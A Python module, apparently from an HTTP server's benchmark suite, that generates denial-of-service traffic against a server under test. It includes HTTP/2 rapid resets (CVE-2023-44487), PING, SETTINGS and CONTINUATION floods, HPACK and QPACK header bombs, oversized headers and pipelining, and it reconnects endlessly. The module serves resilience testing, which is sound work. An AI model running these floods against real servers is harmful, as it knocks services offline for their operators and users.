"""The attackers: ``python benchmarks/_attackers.py JSON`` attacks a server until it is terminated.

They connect again as often as they are cut off. They run in a process of their own, and give way to everything else on their
core, so that what a neighbour of theirs measures is the server and not them.
"""

from __future__ import annotations

import contextlib
import dataclasses
import json
import os
import ssl
import struct
import sys
from collections.abc import AsyncGenerator, Callable

import trio
from _client_http2 import PREFACE, frame
from _client_http3 import HTTP3Client, pack_frame, pack_varint
from _wire import Target, connecting
from hpack import Encoder
from qh3.quic.connection import QuicConnectionError

__all__ = ["Attack", "attack_names"]

_CHUNK = 64 * 1024
_PAUSE_SECONDS = 0.005
_LINGER_SECONDS = 1.0
_NICENESS = 10


@dataclasses.dataclass(frozen=True)
class Attack:
    """What is to be done to whom.

    Args:
        name: one of :func:`attack_names`.
        attackers: connections at a time.
        http_version: what they speak.
        host: the server's address.
        port: its port.
        cafile: what its certificate is held against.
    """

    name: str
    attackers: int
    http_version: str
    host: str
    port: int
    cafile: str


_GET = [(":method", "GET"), (":scheme", "https"), (":authority", "localhost"), (":path", "/wait")]


# HTTP/1.1 and HTTP/2: octets to send, again and again, on one connection after the other.


def _endless_head() -> bytes:
    return b"GET / HTTP/1.1\r\nHost: localhost\r\n" + b"X-Filler: %b\r\n" % (b"x" * 1000) * 20_000


def _wide_head() -> bytes:
    return b"GET / HTTP/1.1\r\nHost: localhost\r\n" + b"A:\r\n" * 1_000_000


def _pipeline() -> bytes:
    return b"GET /wait HTTP/1.1\r\nHost: localhost\r\n\r\n" * 200_000


def _http2(frames: bytes) -> bytes:
    return PREFACE + frame(4, 0, 0) + frames


def _rapid_resets() -> bytes:
    """Make requests, each reset right away (CVE-2023-44487)."""
    block = Encoder().encode(_GET)
    return _http2(b"".join(frame(1, 5, i, block) + frame(3, 0, i, bytes(4)) for i in range(1, 100_001, 2)))


def _pings() -> bytes:
    return _http2(frame(6, 0, 0, bytes(8)) * 200_000)


def _settings() -> bytes:
    return _http2(frame(4, 0, 0, struct.pack(">HL", 4, 65535)) * 200_000)


def _header_bombs() -> bytes:
    """Make one long field in the table, then references to it, an octet each, on one stream after the other."""
    encoder = Encoder()
    first = encoder.encode(_GET) + encoder.encode([("x-bomb", "y" * 3000)]) + b"\xbe" * 10_000
    block = encoder.encode(_GET) + b"\xbe" * 16_000
    return _http2(frame(1, 5, 1, first) + b"".join(frame(1, 5, i, block) for i in range(3, 2001, 2)))


def _continuations() -> bytes:
    """Make a header section without an end."""
    return _http2(
        frame(1, 1, 1, Encoder().encode(_GET)) + frame(9, 0, 1, b"\x00\x01a\x7f\x80\x01" + b"y" * 8000) * 5000
    )


_OCTETS: dict[str, dict[str, Callable[[], bytes]]] = {
    "1.1": {"endless head": _endless_head, "a million fields": _wide_head, "pipelined requests": _pipeline},
    "2": {
        "rapid resets": _rapid_resets,
        "PING flood": _pings,
        "SETTINGS flood": _settings,
        "HPACK bombs": _header_bombs,
        "CONTINUATION flood": _continuations,
    },
}


# HTTP/3: what is done on a connection, again and again.


def _http3_resets(client: HTTP3Client) -> None:
    for _ in range(50):
        if client.may_open():
            client.cancel(client.open("GET", "/wait"))


def _http3_pings(client: HTTP3Client) -> None:
    for uid in range(50):
        client.quic.send_ping(uid)


def _http3_bomb(client: HTTP3Client) -> None:
    """Send sections of 20,000 fields, two octets each."""
    for _ in range(4):
        if not client.may_open():
            break
        stream_id = client.quic.get_next_available_stream_id()
        client.quic.send_stream_data(stream_id, pack_frame(1, b"\x00\x00" + b"\xff\x15" * 20_000), end_stream=True)


def _http3_endless_head(client: HTTP3Client) -> None:
    """Send sections that declare a gibibyte, on stream after stream."""
    for _ in range(4):
        if not client.may_open():
            break
        stream_id = client.quic.get_next_available_stream_id()
        client.quic.send_stream_data(stream_id, pack_varint(1) + pack_varint(2**30) + bytes(60_000))


_ACTS: dict[str, Callable[[HTTP3Client], None]] = {
    "rapid resets": _http3_resets,
    "PING flood": _http3_pings,
    "QPACK bombs": _http3_bomb,
    "endless heads": _http3_endless_head,
}


def attack_names(http_version: str) -> list[str]:
    """Return the names of the attacks over a version of HTTP."""
    return list(_ACTS if http_version == "3" else _OCTETS[http_version])


async def _repeat(attack: Attack) -> None:
    target = Target((attack.host, attack.port), attack.http_version, attack.cafile)
    octets = _OCTETS[attack.http_version][attack.name]() if attack.http_version != "3" else b""
    while True:
        with contextlib.suppress(OSError, trio.BrokenResourceError, QuicConnectionError, ExceptionGroup):
            if attack.http_version == "3":
                await _attack_http3(_ACTS[attack.name], target)
            else:
                await _attack_tcp(target, octets)
        await trio.sleep(_PAUSE_SECONDS)


async def _attack_tcp(target: Target, octets: bytes) -> None:
    async with _tls_stream(target) as stream, trio.open_nursery() as nursery:

        async def drain() -> None:
            with contextlib.suppress(trio.BrokenResourceError):
                while await stream.receive_some():
                    pass
            nursery.cancel_scope.cancel()

        nursery.start_soon(drain)
        for position in range(0, len(octets), _CHUNK):
            await stream.send_all(octets[position : position + _CHUNK])
        await trio.sleep(_LINGER_SECONDS)
        nursery.cancel_scope.cancel()


@contextlib.asynccontextmanager
async def _tls_stream(target: Target) -> AsyncGenerator[trio.SSLStream[trio.SocketStream]]:
    tcp = await trio.open_tcp_stream(*target.address)
    context = ssl.create_default_context(cafile=target.cafile)
    context.set_alpn_protocols(["h2" if target.http_version == "2" else "http/1.1"])
    stream = trio.SSLStream(tcp, context, server_hostname="localhost", https_compatible=True)
    try:
        await stream.do_handshake()
        yield stream
    finally:
        await trio.aclose_forcefully(stream)


async def _attack_http3(act: Callable[[HTTP3Client], None], target: Target) -> None:
    async with connecting(target) as wire:
        client = wire.client
        assert isinstance(client, HTTP3Client)
        await wire.request("GET", "/")
        while not client.lost:
            act(client)
            wire.wake()
            await trio.sleep(_PAUSE_SECONDS / 5)


async def _run(attack: Attack) -> None:
    async with trio.open_nursery() as nursery:
        for _ in range(attack.attackers):
            nursery.start_soon(_repeat, attack)


if __name__ == "__main__":
    os.nice(_NICENESS)
    trio.run(_run, Attack(**json.loads(sys.argv[1])))
